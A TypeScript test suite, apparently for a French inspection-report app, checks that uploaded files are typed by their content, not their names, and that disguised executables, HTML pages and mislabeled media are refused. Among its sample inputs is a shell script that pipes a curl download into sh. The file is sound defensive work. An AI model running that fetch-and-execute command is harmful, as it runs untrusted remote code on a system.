import { acceptedTypesLabel, detectFileType, mimeTypeForKey, type FileCategory } from '../../api/src/infra/file-types.js';
import { heicHeader, m4aHeader, sampleAac, sampleJpeg, sampleMp3, sampleOpus, samplePng, sampleWav, webpHeader } from '../support/media.js';
import { sampleDocx, sampleOdt } from '../support/office.js';

const bytes = (...values: number[]) => Buffer.from(values);
const pdf = Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n');
const ole2 = Buffer.concat([bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), Buffer.alloc(600)]);
const exe = Buffer.concat([Buffer.from('MZ'), bytes(0x90, 0x00, 0x03, 0x00, 0x00, 0x00), Buffer.alloc(120)]);
const elf = Buffer.concat([Buffer.from('\x7fELF', 'latin1'), bytes(0x02, 0x01, 0x01, 0x00), Buffer.alloc(56)]);
const png = Buffer.concat([bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13), Buffer.from('IHDR'), Buffer.alloc(17)]);
const jpeg = bytes(0xff, 0xd8, 0xff, 0xe0, 0, 16);
const text = Buffer.from('Constat d’état des lieux\r\nPièce 1 : séjour\tRAS\n');
const html = Buffer.from('<!DOCTYPE html><html><body><script>fetch("/graphql")</script></body></html>');
const pdfAt500 = Buffer.concat([Buffer.alloc(500, 0x20), pdf]);
const truncatedZip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(26), Buffer.from('[Content_Types].xml word/document.xml')]);

let docx: Buffer;
let odt: Buffer;
beforeAll(async () => {
  [docx, odt] = await Promise.all([sampleDocx(), sampleOdt()]);
});

describe('upload types are decided by content, not by name', () => {
  it.each<[FileCategory, string, () => Buffer, string | null]>([
    ['document', 'constat.pdf', () => pdf, 'application/pdf'],
    ['document', 'CONSTAT.PDF', () => pdf, 'application/pdf'],
    ['document', 'constat.doc', () => ole2, 'application/msword'],
    ['document', 'constat.docx', () => docx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['document', 'constat.odt', () => odt, 'application/vnd.oasis.opendocument.text'],
    ['document', 'notes.txt', () => text, 'text/plain; charset=utf-8'],
    ['document', 'virus.pdf', () => exe, null],
    ['document', 'virus.txt', () => exe, null],
    ['document', 'faux.docx', () => odt, null],
    ['document', 'faux.odt', () => docx, null],
    ['document', 'photo.png', () => png, null],
    ['document', 'sans-extension', () => pdf, null],
    ['document', 'script.exe', () => exe, null],
    ['bill', 'facture.pdf', () => pdf, 'application/pdf'],
    ['bill', 'facture.docx', () => docx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['bill', 'facture.odt', () => odt, null],
    ['bill', 'facture.txt', () => text, null],
    ['image', 'avatar.png', () => png, 'image/png'],
    ['image', 'avatar.jpeg', () => jpeg, 'image/jpeg'],
    ['image', 'avatar.jpg', () => png, null],
    ['image', 'avatar.png', () => pdf, null],
    ['logo', 'logo.png', () => png, 'image/png'],
    ['logo', 'logo.JPG', () => jpeg, 'image/jpeg'],
    ['logo', 'logo.jpeg', () => jpeg, 'image/jpeg'],
    ['logo', 'logo.png', () => pdf, null],
    ['logo', 'logo.png', () => exe, null],
    ['logo', 'logo.gif', () => Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'), null],
    ['logo', 'logo.webp', () => Buffer.from('RIFF\x00\x00\x00\x00WEBPVP8 ', 'latin1'), null],
  ])('%s %s → %s', async (category, name, head, expected) => {
    expect((await detectFileType(category, name, head()))?.mimeType ?? null).toBe(expected);
  });

  it.each<[string, string, () => Buffer]>([
    ['an MZ executable named .pdf', 'acte.pdf', () => exe],
    ['an ELF executable named .pdf', 'acte.pdf', () => elf],
    ['an HTML page named .pdf', 'acte.pdf', () => html],
    ['an HTML page named .txt', 'notes.txt', () => html],
    ['a shell script named .txt', 'notes.txt', () => Buffer.from('#!/bin/sh\ncurl http://x | sh\n')],
    ['a PDF whose %PDF- sits at offset 500', 'acte.pdf', () => pdfAt500],
    ['an empty file', 'acte.pdf', () => Buffer.alloc(0)],
    ['an empty text', 'notes.txt', () => Buffer.alloc(0)],
    ['a truncated zip named .docx', 'acte.docx', () => truncatedZip],
    ['a plain zip named .docx', 'acte.docx', () => docx.subarray(0, 40)],
    ['a Word 97 file named .docx', 'acte.docx', () => ole2],
  ])('refuses %s', async (_label, name, head) => {
    expect(await detectFileType('document', name, head())).toBeNull();
  });

  describe('deposited items: documents, photos and dictations (issue 33)', () => {
    it.each<[string, () => Buffer, string]>([
      ['constat.pdf', () => pdf, 'application/pdf'],
      ['notes.txt', () => text, 'text/plain; charset=utf-8'],
      ['IMG_0001.JPG', () => sampleJpeg(40, 30), 'image/jpeg'],
      ['photo.jpeg', () => sampleJpeg(40, 30), 'image/jpeg'],
      ['capture.png', () => samplePng(40, 30), 'image/png'],
      ['photo.webp', () => webpHeader(640, 480), 'image/webp'],
      ['IMG_0002.HEIC', () => heicHeader(4032, 3024), 'image/heic'],
      ['photo.heif', () => heicHeader(4032, 3024, { brand: 'mif1' }), 'image/heif'],
      ['dictée.mp3', () => sampleMp3(), 'audio/mpeg'],
      ['dictée-id3.mp3', () => sampleMp3({ id3: true }), 'audio/mpeg'],
      ['mémo.m4a', () => m4aHeader(), 'audio/mp4'],
      ['android.m4a', () => m4aHeader('mp42'), 'audio/mp4'],
      ['mémo.aac', () => sampleAac(), 'audio/aac'],
      ['dictée.wav', () => sampleWav(), 'audio/wav'],
      ['note-vocale.ogg', () => sampleOpus(), 'audio/ogg'],
      ['note-vocale.opus', () => sampleOpus(), 'audio/ogg'],
    ])('accepts %s by its content', async (name, head, mimeType) => {
      expect((await detectFileType('deposit', name, head()))?.mimeType).toBe(mimeType);
    });

    it.each<[string, string, () => Buffer]>([
      ['an MZ executable named .jpg', 'photo.jpg', () => exe],
      ['an ELF executable named .mp3', 'dictée.mp3', () => elf],
      ['an HTML page named .jpg', 'photo.jpg', () => html],
      ['an HTML page named .mp3', 'dictée.mp3', () => html],
      ['an HTML page named .heic', 'photo.heic', () => html],
      ['a PNG named .jpg', 'photo.jpg', () => samplePng(40, 30)],
      ['a WAV named .mp3', 'dictée.mp3', () => sampleWav()],
      ['a WebP named .wav', 'dictée.wav', () => webpHeader(64, 64)],
      ['an MP3 named .ogg', 'dictée.ogg', () => sampleMp3()],
      ['a GIF', 'anim.gif', () => Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1')],
    ])('refuses %s', async (_label, name, head) => {
      expect(await detectFileType('deposit', name, head())).toBeNull();
    });

    it('keeps returned items and matrices (category document) to documents', async () => {
      for (const [name, head] of [
        ['photo.jpg', sampleJpeg(40, 30)],
        ['photo.heic', heicHeader(4032, 3024)],
        ['dictée.mp3', sampleMp3()],
        ['dictée.wav', sampleWav()],
      ] as const)
        expect(await detectFileType('document', name, head)).toBeNull();
      expect(acceptedTypesLabel('document')).toBe('.doc, .docx, .odt, .pdf, .txt');
      expect(acceptedTypesLabel('deposit')).toMatch(
        /^documents \(\.doc, .*\.txt\), photos \(\.jpg, .*\.heif\), dictées \(\.mp3, .*\.opus\)$/,
      );
    });
  });

  it('refuses a PNG named .jpg and a JPEG named .png', async () => {
    expect(await detectFileType('image', 'photo.jpg', png)).toBeNull();
    expect(await detectFileType('image', 'photo.png', jpeg)).toBeNull();
  });

  it('serves stored files with the type of their key', () => {
    expect(mimeTypeForKey('reports/2026/11/abc.pdf')).toBe('application/pdf');
    expect(mimeTypeForKey('reports/2026/11/abc.txt')).toBe('text/plain; charset=utf-8');
    expect(mimeTypeForKey('x/unknown.bin')).toBe('application/octet-stream');
    // Deposited photos and dictations: played or shown by the browser, never taken for a page.
    expect(mimeTypeForKey('reports/2026/11/abc.jpg')).toBe('image/jpeg');
    expect(mimeTypeForKey('reports/2026/11/abc.heic')).toBe('image/heic');
    expect(mimeTypeForKey('reports/2026/11/abc.heif')).toBe('image/heif');
    expect(mimeTypeForKey('reports/2026/11/abc.mp3')).toBe('audio/mpeg');
    expect(mimeTypeForKey('reports/2026/11/abc.m4a')).toBe('audio/mp4');
    expect(mimeTypeForKey('reports/2026/11/abc.wav')).toBe('audio/wav');
    expect(mimeTypeForKey('reports/2026/11/abc.opus')).toBe('audio/ogg');
    // The Factur-X XML alone, written by the server.
    expect(mimeTypeForKey('group-bills/2026/11/abc.xml')).toBe('application/xml; charset=utf-8');
  });
});
